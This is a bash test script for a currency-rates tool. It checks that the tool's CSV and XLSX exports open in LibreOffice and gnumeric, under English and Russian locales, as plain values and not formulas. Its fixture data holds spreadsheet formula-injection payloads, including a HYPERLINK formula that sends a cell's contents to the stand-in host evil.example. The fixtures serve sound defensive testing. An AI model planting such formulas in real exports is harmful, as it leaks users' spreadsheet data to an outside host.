#!/usr/bin/env bash
# Our CSV and workbooks, opened by LibreOffice and gnumeric in an English and in a Russian locale. Usage:
# spreadsheets.sh RATES. Programs that are not installed are named and passed over; with CI=true each must be there.
# tests/spreadsheets/check.py judges what they made of the cells: numbers, dates, texts, no formula.
set -euo pipefail
rates=$(realpath "$1")
check=$(realpath "$(dirname "$0")/spreadsheets/check.py")
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
export HOME="$folder" RATES_DB="$folder/rates.db" RATES_NOW=2026-08-21T12:00:00+03:00
found=0
missing=()

here() { if command -v "$1" >/dev/null; then found=$((found + 1)); else missing+=("$1"); return 1; fi; }

cat >titles.jsonl <<'TITLES'
{"published":"2024-05-20T10:00:00+03:00","title":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"жми\")","url":"https://a.example/0","source":"a.example"}
{"published":"2024-05-20T11:00:00+03:00","title":"=1+1","url":"https://a.example/1","source":"=2+2"}
{"published":"2024-05-20T12:00:00+03:00","title":"+7 (495) 000-00-00","url":"https://a.example/2","source":"a.example"}
{"published":"2024-05-20T13:00:00+03:00","title":"-20+3","url":"https://a.example/3","source":"a.example"}
{"published":"2024-05-20T14:00:00+03:00","title":"@SUM(1)","url":"https://a.example/4","source":"a.example"}
{"published":"2024-05-20T15:00:00+03:00","title":"Курс; каким он, был","url":"https://a.example/5","source":"a.example"}
TITLES
"$rates" -q news add titles.jsonl >/dev/null

# No negative figure behind a text in quotes: gnumeric would part the fields at the minus (findings/gnumeric-csv-minus.sh).
cat >invoices.csv <<'INVOICES'
Счёт;Дата;Сумма;Валюта;Примечание
N-1;20.05.2024;-1250,50;USD;=1+1
N-2;21.05.2024;33,52;EUR;"=HYPERLINK(""http://evil.example/"";""жми"")"
N-3;22.05.2024;1 000 000,00;JPY;"Курс; каким он, был"
N-4;20.05.1997;5,00;USD;"Курс старых рублей,
по счёту от мая"
INVOICES

history() { "$rates" -q history USD JPY TRY --from 2021-01-01 --to 2021-01-20 "$@"; }
news() { "$rates" -q news list --limit 0 --currency USD "$@"; }
convert() { "$rates" -q convert --csv invoices.csv "$@"; }
for kind in history news convert; do
  "$kind" --format csv >"$kind-programs.csv"
  "$kind" --csv-for excel >"$kind-excel.csv"
  "$kind" --csv-for excel-ru >"$kind-ru.csv"
  "$kind" --lang ru -o "$kind.xlsx" >/dev/null
  "$kind" --format json >"$kind.json"
done

# Cells as a spreadsheet has them.
in_libreoffice() {
  local file=$1 filter=${2:-}
  soffice -env:UserInstallation="file://$folder/profile" --headless ${filter:+"--infilter=$filter"} \
    --convert-to fods --outdir libreoffice "$file" >/dev/null 2>&1
}
in_gnumeric() { env LOCPATH="$folder/locales" LC_ALL="$1" ssconvert "$2" "gnumeric/$3.ods" 2>/dev/null; }

if here soffice; then
  # Separator, quote, UTF-8, first line, columns as they are, language, quoted fields like others, numbers recognised.
  english="CSV:44,34,76,1,,1033,false,true"
  russian="CSV:59,34,76,1,,1049,false,true"
  for kind in history news convert; do
    in_libreoffice "$kind.xlsx"
    python3 "$check" "$kind" "$kind.json" "libreoffice/$kind.fods"
    in_libreoffice "$kind-excel.csv" "$english"
    python3 "$check" "$kind-csv" "$kind.json" "libreoffice/$kind-excel.fods"
    in_libreoffice "$kind-ru.csv" "$russian"
    python3 "$check" "$kind-csv" "$kind.json" "libreoffice/$kind-ru.fods"
  done
  # `convert` leaves the user's columns to programs as they were, decimal commas included.
  for kind in history news; do
    in_libreoffice "$kind-programs.csv" "$english"
    python3 "$check" "$kind-csv" "$kind.json" "libreoffice/$kind-programs.fods"
  done
fi
if here ssconvert; then
  # A bare Debian has the sources of its locales only.
  mkdir -p locales gnumeric
  localedef -i ru_RU -f UTF-8 locales/ru_RU.UTF-8
  for kind in history news convert; do
    in_gnumeric C.UTF-8 "$kind.xlsx" "$kind"
    python3 "$check" "$kind" "$kind.json" "gnumeric/$kind.ods"
    in_gnumeric C.UTF-8 "$kind-excel.csv" "$kind-excel"
    python3 "$check" "$kind-csv" "$kind.json" "gnumeric/$kind-excel.ods"
    in_gnumeric ru_RU.UTF-8 "$kind.xlsx" "$kind-in-ru"
    python3 "$check" "$kind" "$kind.json" "gnumeric/$kind-in-ru.ods"
    # What is named .csv is parted at commas in any locale, unless somebody says otherwise in a dialog.
    cp "$kind-ru.csv" "$kind-ru.txt"
    in_gnumeric ru_RU.UTF-8 "$kind-ru.txt" "$kind-ru"
    python3 "$check" "$kind-csv" "$kind.json" "gnumeric/$kind-ru.ods"
  done
fi
echo "opened by $found programs; not installed: ${missing[*]:-none}"
[ "${CI:-}" != true ] || [ ${#missing[@]} -eq 0 ]
